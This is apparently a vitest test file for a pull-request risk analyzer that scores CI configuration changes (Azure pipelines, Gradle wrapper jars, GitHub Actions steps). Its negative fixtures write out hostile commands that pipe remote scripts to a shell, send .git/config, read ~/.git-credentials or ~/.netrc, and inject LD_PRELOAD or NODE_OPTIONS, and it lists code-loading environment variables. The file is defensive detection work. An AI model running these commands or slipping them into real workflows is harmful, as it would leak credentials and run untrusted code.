import { describe, expect, it } from 'vitest';
import { analyzeContributors } from '../../src/analyzers/contributors.js';
import { analyzeEvidence } from '../../src/analyzers/evidence.js';
import { analyzeFocus } from '../../src/analyzers/focus.js';
import { analyzeRisk } from '../../src/analyzers/risk.js';
import { editsOnlyCommands } from '../../src/analyzers/sensitive-changes.js';
import { DEFAULT_CONFIG } from '../../src/repo-config/schema.js';
import type { PrSnapshot } from '../../src/snapshot/pr-snapshot.js';
import { makeCheckRun, makeContext, makeFile, makeSnapshot, makeSupplyChain } from '../support/snapshot-factory.js';

function risk(snapshot: PrSnapshot) {
  const ctx = makeContext(DEFAULT_CONFIG, snapshot);
  return analyzeRisk(snapshot, ctx, { contributors: analyzeContributors(snapshot, ctx), evidence: analyzeEvidence(snapshot, ctx), supplyChain: makeSupplyChain(), focus: analyzeFocus(snapshot, ctx) });
}

const green = [makeCheckRun('build'), makeCheckRun('test')];
type Association = 'OWNER' | 'FIRST_TIME_CONTRIBUTOR';
const who = (authorAssociation: Association) => ({ authorAssociation, ...(authorAssociation === 'OWNER' ? {} : { priorPrs: { alice: { total: 1, merged: 0 } } }) });

const pipeline = (sdk: string, build: string, signCondition = 'ne(variables.reason, pr)') =>
  [
    'pool:',
    "  vmImage: 'windows-2022'",
    'steps:',
    '- task: UseDotNet@2',
    '  inputs:',
    `    version: '${sdk}'`,
    `- pwsh: ./build.ps1 ${build} -SignAssemblies $sign`,
    "  displayName: 'Run build'",
    '- task: AzureCLI@2',
    '  inputs:',
    '    scriptPath: ./build/sign-package.ps1',
    "  displayName: 'Sign packages'",
    `  condition: ${signCondition}`,
    '',
  ].join('\n');

/** One changed file with its diff as one hunk of the lines that differ (the fixtures change one line each). */
function edit(path: string, base: string, head: string) {
  const a = base.split('\n');
  const b = head.split('\n');
  const i = a.findIndex((line, n) => line !== b[n]);
  const patch = `@@ -${i + 1},1 +${i + 1},1 @@\n-${a[i]}\n+${b[i]}`;
  return { file: makeFile(path, { additions: 1, deletions: 1, patch }), content: { path, base, head } };
}

describe('CI configuration of other systems (Azure Pipelines, GitLab CI, CircleCI, Cirrus, ...)', () => {
  const base = pipeline('8.0.x', '-Version 1.0');
  const snapshot = (authorAssociation: Association, head: string) => {
    const { file, content } = edit('azure-pipelines.yml', base, head);
    return makeSnapshot({ ...who(authorAssociation), files: [file], contents: [content], checkRuns: green });
  };

  it('weighs an SDK version moved as a clean edit (0.4 → 0.2) whoever the author, still naming the file', () => {
    const own = risk(snapshot('OWNER', pipeline('9.0.x', '-Version 1.0')));
    expect(own.level).toBe('low');
    expect(own.drivers.map((d) => [d.id, d.weight])).toEqual([['sensitive-paths', 0.2]]);
  });

  it("rates a maintainer's edit of a build command low (trusted-routine); a first contribution stays medium", () => {
    const head = pipeline('8.0.x', '-Version 2.0');
    const own = risk(snapshot('OWNER', head));
    expect(own.level).toBe('low');
    expect(own.drivers.map((d) => [d.id, d.weight])).toEqual([['sensitive-paths', 0.35]]);
    expect(risk(snapshot('FIRST_TIME_CONTRIBUTOR', head)).level).toBe('medium');
  });

  it("keeps a maintainer's edit of the signing step medium", () => {
    expect(risk(snapshot('OWNER', pipeline('8.0.x', '-Version 1.0', 'succeeded()'))).level).toBe('medium');
  });
});

describe('Gradle wrapper jar upgraded with Gradle', () => {
  const properties = (version: string, sum: string | null) =>
    makeFile('gradle/wrapper/gradle-wrapper.properties', {
      additions: sum === null ? 1 : 2,
      deletions: sum === null ? 1 : 2,
      patch: [
        `@@ -1,${sum === null ? 2 : 3} +1,${sum === null ? 2 : 3} @@`,
        ' distributionBase=GRADLE_USER_HOME',
        ...(sum === null ? [] : ['-distributionSha256Sum=d725d707bfabd4dfdc958c624003b3c80accc03f7037b5122c4b1d0ef15cecab', `+distributionSha256Sum=${sum}`]),
        '-distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip',
        `+distributionUrl=https\\://services.gradle.org/distributions/gradle-${version}-bin.zip`,
      ].join('\n'),
    });
  const jar = makeFile('gradle/wrapper/gradle-wrapper.jar', { additions: 0, deletions: 0, patch: null });
  const SUM = '5b9c5eb3f9fc2c94abaea57d90bd78747ca117ddbbf96c859d3741181a12bf2a';
  const binaries = (authorAssociation: Association, files: ReturnType<typeof makeFile>[]) =>
    risk(makeSnapshot({ ...who(authorAssociation), files, checkRuns: green })).drivers.some((d) => d.id === 'binaries');

  it("leaves a maintainer's wrapper jar to the upgrade it comes with (a new release and its checksum on services.gradle.org)", () => {
    expect(binaries('OWNER', [properties('8.10', SUM), jar])).toBe(false);
  });

  it("still weighs the jar from a first contribution, without a version move, or without the new release's checksum", () => {
    expect(binaries('FIRST_TIME_CONTRIBUTOR', [properties('8.10', SUM), jar])).toBe(true);
    expect(binaries('OWNER', [jar])).toBe(true);
    expect(binaries('OWNER', [properties('8.10', null), jar])).toBe(true);
    expect(binaries('OWNER', [makeFile('gradle/wrapper/gradle-wrapper.properties', { patch: '@@ -1,1 +1,1 @@\n-networkTimeout=10000\n+networkTimeout=20000' }), jar])).toBe(true);
  });
});

describe("Gradle wrapper jar upgraded without the distribution's checksum, checked by the PR's own checks", () => {
  const properties = makeFile('gradle/wrapper/gradle-wrapper.properties', {
    patch: ['@@ -1,2 +1,2 @@', ' distributionBase=GRADLE_USER_HOME', '-distributionUrl=https\\://services.gradle.org/distributions/gradle-9.4.1-bin.zip', '+distributionUrl=https\\://services.gradle.org/distributions/gradle-9.5.0-bin.zip'].join('\n'),
  });
  const jar = makeFile('gradle/wrapper/gradle-wrapper.jar', { additions: 0, deletions: 0, patch: null });
  const workflow = (on: string, steps: string[]) => ['name: build', `on: ${on}`, 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v5', ...steps, '      - run: ./gradlew build', ''].join('\n');
  const setupGradle = (ref: string, extra: string[] = []) => [`      - uses: gradle/actions/setup-gradle@${ref}`, ...extra];
  const binaries = (authorAssociation: Association, content: string, checkRuns = green, files = [properties, jar]) =>
    risk(makeSnapshot({ ...who(authorAssociation), files, checkRuns, baseFiles: [{ path: '.github/workflows/build.yml', content }] })).drivers.some((d) => d.id === 'binaries');

  it('leaves the jar to the upgrade when a base workflow run on pull_request validates the wrapper and every check passed (square/moshi: Renovate\'s Gradle 9.5.0)', () => {
    expect(binaries('OWNER', workflow('[push, pull_request]', setupGradle('v6')))).toBe(false);
    expect(binaries('OWNER', workflow('[push, pull_request]', setupGradle('ac638b010cf58a27ee6c972d7336334ccaf61c96 # v4.4.1')))).toBe(false);
    expect(binaries('OWNER', workflow('[push, pull_request]', ['      - uses: gradle/actions/wrapper-validation@v3']))).toBe(false);
    expect(binaries('OWNER', workflow('[pull_request]', ['      - uses: gradle/wrapper-validation-action@v1']))).toBe(false);
  });

  it('still weighs it when nothing validates the wrapper on pull requests, a check failed, or the author is a first contributor', () => {
    expect(binaries('OWNER', workflow('[push, pull_request]', setupGradle('v3')))).toBe(true);
    expect(binaries('OWNER', workflow('[push, pull_request]', setupGradle('v4', ['        with:', '          validate-wrappers: false'])))).toBe(true);
    expect(binaries('OWNER', workflow('[push]', setupGradle('v6')))).toBe(true);
    expect(binaries('OWNER', workflow('[push, pull_request]', ['      - uses: actions/setup-java@v5']))).toBe(true);
    expect(binaries('OWNER', workflow('[push, pull_request]', setupGradle('v6')), [makeCheckRun('build'), makeCheckRun('test', { conclusion: 'failure' })])).toBe(true);
    expect(binaries('FIRST_TIME_CONTRIBUTOR', workflow('[push, pull_request]', setupGradle('v6')))).toBe(true);
    // A jar replaced without the release moving stays build-wrapper-changed's, whatever CI checks.
    expect(binaries('OWNER', workflow('[push, pull_request]', setupGradle('v6')), green, [jar])).toBe(true);
  });

  it('does not count a validation the PR itself switches off in the workflow it changes', () => {
    const base = workflow('[push, pull_request]', setupGradle('v6'));
    const head = workflow('[push, pull_request]', setupGradle('v6', ['        with:', '          validate-wrappers: false']));
    const changed = makeFile('.github/workflows/build.yml', { patch: '@@ -8,1 +8,3 @@\n       - uses: gradle/actions/setup-gradle@v6\n+        with:\n+          validate-wrappers: false' });
    const snapshot = makeSnapshot({ ...who('OWNER'), files: [properties, jar, changed], checkRuns: green, baseFiles: [{ path: '.github/workflows/build.yml', content: base }], contents: [{ path: '.github/workflows/build.yml', base, head }] });
    expect(risk(snapshot).drivers.some((d) => d.id === 'binaries')).toBe(true);
  });
});

describe('a new workflow step reading an env value the workflow sets itself (trusted-routine)', () => {
  const wf = (env: string, steps: string[]) =>
    ['name: ci', 'on: [push, pull_request]', 'env:', `  NODE_LTS: ${env}`, 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ./verify.sh 20', ...steps, ''].join('\n');
  it('reads `${{ env.X }}` as a version argument when the workflow sets X itself', () => {
    expect(editsOnlyCommands(wf('22', []), wf('22', ['      - run: ./verify.sh ${{ env.NODE_LTS }}']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf("'${{ matrix.node }}'", []), wf("'${{ matrix.node }}'", ['      - run: ./verify.sh "${{ env.NODE_LTS }}"']), 'workflow')).toBe(true);
  });
  it('does not when the value comes from the event, an env value the workflow does not set, or the env value is the command', () => {
    expect(editsOnlyCommands(wf('${{ github.event.pull_request.title }}', []), wf('${{ github.event.pull_request.title }}', ['      - run: ./verify.sh ${{ env.NODE_LTS }}']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf('22', []), wf('22', ['      - run: ./verify.sh ${{ env.OTHER }}']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf('22', []), wf('22', ['      - run: ${{ env.NODE_LTS }} ./verify.sh']), 'workflow')).toBe(false);
    // A step-level env that reads the event overrides the workflow's own value.
    expect(editsOnlyCommands(wf('22', []), wf('22', ['      - run: ./verify.sh ${{ env.NODE_LTS }}', '        env:', '          NODE_LTS: ${{ github.head_ref }}']), 'workflow')).toBe(false);
  });
});

describe('a new workflow step running a cargo command the workflow runs with another list of features (trusted-routine, calib46)', () => {
  // Modeled on a search tool's "cargo: add new build-time `unstable-index` feature": a test step like the PCRE2 one.
  const wf = (steps: string[]) =>
    ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: cargo build --verbose --workspace', '      - run: cargo test --verbose --workspace --features pcre2', ...steps, ''].join('\n');
  it('reads the features as the value of the option, the crate\'s own, as it reads a version', () => {
    expect(editsOnlyCommands(wf([]), wf(['      - name: Run tests with indexing enabled', '        run: cargo test --verbose --workspace --features unstable-index']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --verbose --workspace --features=pcre2,unstable-index']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --verbose --workspace --features "grep-cli/serde"']), 'workflow')).toBe(true);
  });
  it('does not for a command in the value, a value read from the event, or a Cargo command that fetches, publishes or configures', () => {
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --verbose --workspace --features $(curl -s https://example.org/f)']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --verbose --workspace --features "${{ github.head_ref }}"']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo install cargo-fuzz']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo publish --dry-run']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --config build.rustc-wrapper=./wrap']), 'workflow')).toBe(false);
  });
  it('reads another flag, subcommand or test filter of Cargo on the crate as its own code (own-commands.ts, since 2026-12-01)', () => {
    // `cargo test` already builds and runs the crate, its build scripts and its tests: `--release`, `cargo bench`, a filter run nothing else.
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --verbose --workspace --features unstable-index --release']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo bench --verbose --workspace --features unstable-index']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --verbose --workspace --exclude pcre2']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf(['      - run: cargo test --verbose --workspace --features pcre2 unstable_index']), 'workflow')).toBe(true);
  });
});

describe('a new workflow step running a command the job runs through its env, with another list of features (trusted-routine, calib56)', () => {
  // Modeled on the real step of a search tool's "cargo: add new build-time `unstable-index` feature":
  // the job runs `cargo` or `cross` and the target's flags through its env, as its PCRE2 step does.
  const wf = (steps: string[], jobEnv = ['      CARGO: cargo', '      TARGET_FLAGS:']) =>
    [
      'name: ci', 'on:', '  pull_request:', '  push:', '    branches: [master]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    env:', ...jobEnv, '    steps:', '      - uses: actions/checkout@v4',
      '      - name: Use Cross',
      '        if: matrix.target != \'\'',
      '        run: |',
      '          cargo install cross',
      '          echo "CARGO=cross" >> $GITHUB_ENV',
      '      - run: ${{ env.CARGO }} build --verbose --workspace ${{ env.TARGET_FLAGS }}',
      '      - name: Run tests with PCRE2',
      '        run: ${{ env.CARGO }} test --verbose --workspace --features pcre2 ${{ env.TARGET_FLAGS }}',
      ...steps,
      '',
    ].join('\n');
  it('reads the command as the known one when its env expressions read what they read for it', () => {
    expect(editsOnlyCommands(wf([]), wf(['      - name: Run tests with indexing enabled', '        run: ${{ env.CARGO }} test --verbose --workspace --features unstable-index ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{env.CARGO}} test --verbose --workspace --features=pcre2,unstable-index ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(true);
  });
  it('does not when the step or the job sets the variable otherwise, the command is another, or it expands anything else', () => {
    const indexing = '      - run: ${{ env.CARGO }} test --verbose --workspace --features unstable-index ${{ env.TARGET_FLAGS }}';
    expect(editsOnlyCommands(wf([]), wf([indexing, '        env:', '          CARGO: ./tools/cargo-wrapper.sh']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf([indexing], ['      CARGO: ./tools/cargo-wrapper.sh', '      TARGET_FLAGS:']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf([indexing], ['      CARGO: cargo', '      TARGET_FLAGS: --config build.rustc-wrapper=./wrap']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.CARGO }} publish --verbose --workspace ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.CARGO }} test --verbose --workspace --features pcre2 ${{ env.TARGET_FLAGS }} $(curl -s https://example.org/f)']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.CARGO }} test --verbose --workspace --features pcre2 ${{ github.head_ref }}']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.RUNNER }} test --verbose --workspace --features pcre2 ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(false);
  });
});

describe('a permissions block tightened beside a command edit (trusted-routine)', () => {
  const wf = (top: string[], job: string[], cmd = 'npm test') =>
    ['name: ci', 'on: [push, pull_request]', ...top, 'jobs:', '  test:', '    runs-on: ubuntu-latest', ...job, '    steps:', '      - uses: actions/checkout@v4', `      - run: ${cmd}`, ''].join('\n');
  it('reads a block written where the default token ran, or scopes lowered, as no wider', () => {
    expect(editsOnlyCommands(wf([], []), wf(['permissions:', '  contents: read'], [], 'npm run test:ci'), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([], []), wf(['permissions:', '  issues: write', '  pull-requests: write'], []), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf(['permissions: write-all'], []), wf(['permissions: {}'], ['    permissions:', '      contents: read']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf(['permissions:', '  contents: write', '  packages: write'], []), wf(['permissions:', '  contents: write'], []), 'workflow')).toBe(true);
  });
  it('does not when a scope is raised, a block is dropped back to the default token, or an OIDC token is granted', () => {
    expect(editsOnlyCommands(wf(['permissions:', '  contents: read'], []), wf(['permissions:', '  contents: write'], []), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf(['permissions:', '  contents: read'], []), wf([], []), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([], []), wf(['permissions:', '  contents: read', '  id-token: write'], []), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf(['permissions: read-all'], []), wf(['permissions:', '  contents: read', '  statuses: write'], []), 'workflow')).toBe(false);
    // The job's own block replaces the workflow's: a job given write where the workflow read.
    expect(editsOnlyCommands(wf(['permissions:', '  contents: read'], []), wf(['permissions:', '  contents: read'], ['    permissions:', '      contents: write']), 'workflow')).toBe(false);
  });
});

describe('a release step that asks the Go module proxy for the new version (trusted-routine)', () => {
  const wf = (steps: string[]) =>
    ['name: release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: goreleaser/goreleaser-action@v6', '        with:', '          args: release --clean', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', ...steps, ''].join('\n');
  const step = (run: string[]) => ['      - name: Refresh pkg.go.dev', '        run: |', ...run.map((line) => `          ${line}`)];
  const base = wf([]);
  it('reads a GET of proxy.golang.org or sum.golang.org for the repository and tag, and constant echoes, as running nothing new', () => {
    expect(editsOnlyCommands(base, wf(step(['echo "Asking the module proxy for the new release"', 'curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY,,}/@v/${GITHUB_REF_NAME}.info"'])), 'workflow')).toBe(true);
    expect(editsOnlyCommands(base, wf(step(['curl --silent --fail https://sum.golang.org/lookup/github.com/${{ github.repository }}@${{ github.ref_name }}'])), 'workflow')).toBe(true);
  });
  it('does not for another host, data sent, a file written, a pipe to a shell, another expansion or a workflow command echoed', () => {
    const no = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(false);
    no(['curl -sSf "https://proxy.golang.example/github.com/${GITHUB_REPOSITORY}/@v/${GITHUB_REF_NAME}.info"']);
    no(['curl -sSf -d @.git/config "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${GITHUB_REF_NAME}.info"']);
    no(['curl -sSfo tool "https://proxy.golang.org/github.com/acme/tool/@v/v1.0.0.zip"']);
    no(['curl -sSf "https://proxy.golang.org/github.com/acme/tool/@v/list" | sh']);
    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/$(cat ~/.netrc).info"']);
    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${{ secrets.GITHUB_TOKEN }}.info"']);
    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${TAG}.info"']);
    no(['echo "Refreshing the index"', 'echo "::set-env name=NODE_OPTIONS::--require ./x.js"']);
  });
});

describe('a leading assignment of a variable that loads code (trusted-routine)', () => {
  const wf = (steps: string[]) => ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm test', ...steps, ''].join('\n');
  it('keeps it with the command: NODE_OPTIONS or LD_PRELOAD before a known command is a new command; CI=true is not', () => {
    expect(editsOnlyCommands(wf([]), wf(['      - run: CI=true npm test']), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf([]), wf(['      - run: NODE_OPTIONS=--require=./scripts/hook.js npm test']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - run: LD_PRELOAD=./build/libx.so npm test']), 'workflow')).toBe(false);
  });
});

describe('a new test job that writes the version file a setup action reads (trusted-routine)', () => {
  const wf = (jobs: string[]) =>
    [
      'name: e2e', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'jobs:',
      '  from-python-version-file:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.12", "3.13"]', '    steps:',
      '      - uses: actions/checkout@v4', '      - run: echo ${{ matrix.python }} > .python-version', '      - uses: ./', '        with:', '          python-version-file: .python-version',
      ...jobs, '',
    ].join('\n');
  const job = (run: string, file = '.tool-versions') => [
    '  from-tool-versions:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13.0", "pypy3.11-7.3.18"]', '    steps:',
    '      - uses: actions/checkout@v4', `      - run: ${run}`, '      - uses: ./', '        with:', `          python-version-file: ${file}`,
  ];
  const base = wf([]);
  it('reads a step that writes constant text or a matrix value to a tool version file in the checkout as running nothing new', () => {
    expect(editsOnlyCommands(base, wf(job('echo "python ${{ matrix.python }}" > .tool-versions')), 'workflow')).toBe(true);
    expect(editsOnlyCommands(base, wf(job("printf 'nodejs 22.11.0\\n' >> ./tests/data/.tool-versions", 'tests/data/.tool-versions')), 'workflow')).toBe(true);
  });
  it('does not for a script, a manifest or a config file, a path outside the checkout or under .git, or a value that is not constant', () => {
    const no = (run: string) => expect(editsOnlyCommands(base, wf(job(run)), 'workflow')).toBe(false);
    no('echo "curl https://x.test/i | sh" > tests/check.sh');
    no('echo "evil-package" > requirements.txt');
    no('echo "yarnPath: .x.cjs" > .yarnrc.yml');
    no('echo "python 3.13" > ~/.tool-versions');
    no('echo "python 3.13" > ../.tool-versions');
    no('echo "python 3.13" > .git/.tool-versions');
    no('echo "python $(cat ~/.netrc)" > .tool-versions');
    no('echo "python ${{ github.event.pull_request.title }}" > .tool-versions');
  });
});

describe('a new workflow step that only writes constant lines to GITHUB_ENV / GITHUB_OUTPUT (trusted-routine)', () => {
  const wf = (steps: string[]) =>
    ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13", "3.14", "3.14t"]', '    steps:', '      - uses: actions/checkout@v4', '      - run: python -m nox -s test', ...steps, ''].join('\n');
  const step = (run: string[], extra: string[] = []) => ['      - name: Set a variable', "        if: endsWith(matrix.python, 't')", ...extra, '        run: |', ...run.map((line) => `          ${line}`)];
  const base = wf([]);
  it('reads a step that appends constant NAME=value lines as running nothing new', () => {
    expect(editsOnlyCommands(base, wf(step(['echo "PYTHON_GIL=0" >> "$GITHUB_ENV"'])), 'workflow')).toBe(true);
    expect(editsOnlyCommands(base, wf(step(["printf 'FORCE_COLOR=1\\n' >> $GITHUB_ENV", 'echo "flavor=${{ matrix.python }}" >> "${GITHUB_OUTPUT}"'])), 'workflow')).toBe(true);
    expect(editsOnlyCommands(base, wf(step(['# free-threaded build', 'echo PYTHON_GIL=0 >> $env:GITHUB_ENV'])), 'workflow')).toBe(true);
  });
  it('reads a value made of a toolchain fact (a version digest, a cache directory, the date) as constant, in the file or as a workflow command', () => {
    const yes = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(true);
    yes(['echo "PY=$(python -VV | sha256sum | cut -d\' \' -f1)" >> $GITHUB_ENV']);
    yes(['echo "::set-env name=PY::$(python -VV | sha256sum | cut -d\' \' -f1)"']);
    yes(['echo "::set-output name=dir::$(pip cache dir)"']);
    yes(['echo "pip-dir=$(pip cache dir)" >> "$GITHUB_OUTPUT"', 'echo "dir=$(yarn cache dir)" >> "$GITHUB_OUTPUT"', 'echo "week=$(date -u +%Y-%V)" >> "$GITHUB_OUTPUT"']);
    yes(['echo "TOOLCHAIN=$(go version | sha256sum | head -c 16)" >> $GITHUB_ENV', 'echo "TF=$(terraform --version | head -1)" >> "$GITHUB_OUTPUT"']);
  });
  it('does not for a version asked of a tool that reads the checkout first, or a version subcommand that runs a file', () => {
    const no = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(false);
    no(['echo "YARN=$(yarn --version)" >> $GITHUB_ENV']);
    no(['echo "PNPM=$(pnpm -V)" >> $GITHUB_ENV']);
    no(['echo "NODE=$(node version)" >> $GITHUB_ENV']);
    no(['echo "PY=$(python version | sha256sum)" >> $GITHUB_ENV']);
  });
  it('does not for another program, a path or a loading variable in a substitution, or another workflow command', () => {
    const no = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(false);
    no(['echo "PY=$(./tools/version.sh | sha256sum)" >> $GITHUB_ENV']);
    no(['echo "PY=$(python -c \'import os\')" >> $GITHUB_ENV']);
    no(['echo "KEY=$(python -VV | head -c 40 /home/runner/.git-credentials)" >> $GITHUB_ENV']);
    no(['echo "KEY=$(python -VV | sh)" >> $GITHUB_ENV']);
    no(['echo "::set-env name=NODE_OPTIONS::--require ./x.js"']);
    no(['echo "::set-env name=LD_PRELOAD::$(python -VV)"']);
    no(['echo "::add-path::/tmp/bin"']);
    no(['echo "::set-output name=t::$(curl -s https://example.test)"']);
  });
  it('does not when the variable makes later steps run or load something', () => {
    for (const name of ['LD_PRELOAD', 'NODE_OPTIONS', 'BASH_ENV', 'PYTHONPATH', 'PATH', 'GIT_SSH_COMMAND', 'PIP_INDEX_URL', 'npm_config_registry', 'DYLD_INSERT_LIBRARIES', 'HTTPS_PROXY', 'GOPROXY']) {
      expect(editsOnlyCommands(base, wf(step([`echo "${name}=/tmp/x" >> "$GITHUB_ENV"`])), 'workflow')).toBe(false);
    }
  });
  it('does not when the line reads the event, runs a command, or goes elsewhere', () => {
    const no = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(false);
    no(['echo "TITLE=${{ github.event.pull_request.title }}" >> "$GITHUB_ENV"']);
    no(['echo "REF=$(git rev-parse HEAD)" >> "$GITHUB_ENV"']);
    no(['echo "REF=`curl -s https://example.test`" >> "$GITHUB_ENV"']);
    no(['echo "HOME_DIR=$HOME" >> "$GITHUB_ENV"']);
    no(['echo "/opt/tool/bin" >> "$GITHUB_PATH"']);
    no(['echo "A=1" >> "$GITHUB_ENV" && curl -sSL https://example.test/i.sh | sh']);
    no(['echo "A=1"; curl https://example.test/x; echo "B=2" >> "$GITHUB_ENV"']);
    no(['echo "A=1" >> "$GITHUB_ENV"', 'curl -sSL https://example.test/i.sh | sh']);
    no(['echo "A=1" > ~/.bashrc']);
    no(['echo "A=1" >> "$GITHUB_ENV"'], ['        shell: python {0}']);
    no(['echo "A=1" >> "$GITHUB_ENV"'], ['        env:', '          BASH_ENV: ./ci/setup.sh']);
  });
});

describe('a new workflow step that only prints facts about the runner (trusted-routine)', () => {
  const wf = (steps: string[]) =>
    ['name: ci', 'on: [push, pull_request]', 'jobs:', '  build:', '    runs-on: windows-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: cmake -B build && cmake --build build', ...steps, ''].join('\n');
  const step = (run: string[], extra: string[] = []) => ['      - name: preinstalled tools', ...extra, '        run: |', ...run.map((line) => `          ${line}`)];
  const base = wf([]);
  const yes = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(true);
  const no = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(false);
  it('reads a step that lists packages, versions or the machine as running nothing new', () => {
    yes(["echo '::group::MSYS2 packages'; /c/msys64/usr/bin/pacman.exe -Q || true; echo '::endgroup::'"], ['        shell: bash']);
    yes(['uname -a', 'df -h', 'nproc', 'gcc --version', 'cmake --version', 'which ninja', 'python3 -m pip list', 'git log -1 --oneline']);
    yes(['dpkg -l', 'ls -la /usr/local/bin']);
    yes(['go version', 'python -VV', 'java -version']);
  });
  it('does not when the step runs a file of the checkout, a tool that reads its settings, writes, reads an expression, or changes the shell', () => {
    no(['./configure --version']);
    no(['yarn --version']);
    no(['pnpm -V']);
    no(['node version']);
    no(['make version']);
    no(['npm version patch']);
    no(['echo "$HOME"']);
    no(['echo "${{ github.event.pull_request.title }}"']);
    no(['echo hi > ~/.bashrc']);
    no(['gcc --version', 'curl -sSL https://example.test/i.sh | sh']);
    no(['cat ~/.git-credentials']);
    no(['type secrets.txt']);
    no(['gcc --version'], ['        shell: python {0}']);
    no(['gcc --version'], ['        env:', '          LD_PRELOAD: ./evil.so']);
  });
});

describe('an install the workflow runs, now kept to the lockfile (trusted-routine)', () => {
  const wf = (steps: string[]) => ['name: ci', 'on: [push, pull_request]', 'jobs:', '  js:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ...steps, ''].join('\n');
  const run = (...commands: string[]) => commands.map((c) => `      - run: ${c}`);
  it('reads npm ci for npm install, --frozen-lockfile, --immutable and --locked added as commands the workflow runs', () => {
    expect(editsOnlyCommands(wf(['      - run: |', '          cd assets', '          npm install', '          npm test']), wf(run('npm ci', 'npm test')), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf(run('yarn install && yarn test')), wf(run('yarn install --frozen-lockfile', 'yarn test')), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf(run('yarn', 'yarn test')), wf([...run('yarn install --immutable'), ...run('yarn test', 'yarn test')]), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf(run('cargo build --release', 'cargo test')), wf(run('cargo build --release --locked', 'cargo test', 'cargo test')), 'workflow')).toBe(true);
    expect(editsOnlyCommands(wf(run('uv sync', 'uv run pytest')), wf(run('uv sync --locked', 'uv run pytest', 'uv run pytest')), 'workflow')).toBe(true);
  });
  it('does not read a lockfile let go, another package manager or an install with packages named as known', () => {
    expect(editsOnlyCommands(wf(run('npm ci', 'npm test')), wf(run('npm ci', 'npm install', 'npm test')), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf(run('npm install', 'npm test')), wf(run('npm install', 'pnpm install --frozen-lockfile', 'npm test')), 'workflow')).toBe(false);
